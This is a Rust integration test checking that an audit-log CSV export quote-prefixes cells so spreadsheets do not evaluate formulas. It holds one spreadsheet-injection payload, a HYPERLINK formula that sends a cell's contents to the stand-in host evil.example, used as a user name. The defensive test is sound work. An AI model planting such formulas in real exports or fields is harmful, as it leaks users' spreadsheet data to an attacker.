//! The audit CSV export neutralises spreadsheet formulas (issue #21, M3): a user's name that
//! starts with `=` (or `+`, `-`, `@`) reaches the export through the actor column and must come out
//! as text a spreadsheet will not evaluate.

use pincer_testkit::TestServer;
use reqwest::StatusCode;
use serde_json::{Value, json};

#[tokio::test(flavor = "multi_thread")]
async fn export_prefixes_formula_cells_with_a_quote() {
    let server = TestServer::start().await;
    let admin = server.setup_admin().await;
    let (_, me) = admin.send_json("GET", "/api/auth/me", Value::Null).await;
    let admin_id = me["id"].as_str().unwrap().to_string();

    let name = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
    let (status, body) = admin.send_json("PATCH", "/api/users/me", json!({"name": name})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    // The JSON API keeps the name exactly as typed.
    let (_, page) = admin.send_json("GET", &format!("/api/audit?actorId={admin_id}"), Value::Null).await;
    assert_eq!(page["entries"][0]["actorName"], name, "{page}");

    let res = admin.get(&format!("/api/audit/export?actorId={admin_id}")).await;
    assert_eq!(res.status(), StatusCode::OK);
    let text = res.text().await.unwrap();
    let records = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes())
        .records()
        .collect::<Result<Vec<_>, _>>()
        .unwrap_or_else(|e| panic!("the export is not valid CSV ({e}):\n{text}"));
    assert!(!records.is_empty(), "{text}");
    for record in &records {
        assert_eq!(&record[4], format!("'{name}"), "{text}");
        // No cell of any row starts with a formula trigger.
        for cell in record.iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "cell {cell:?} in\n{text}");
        }
    }
}
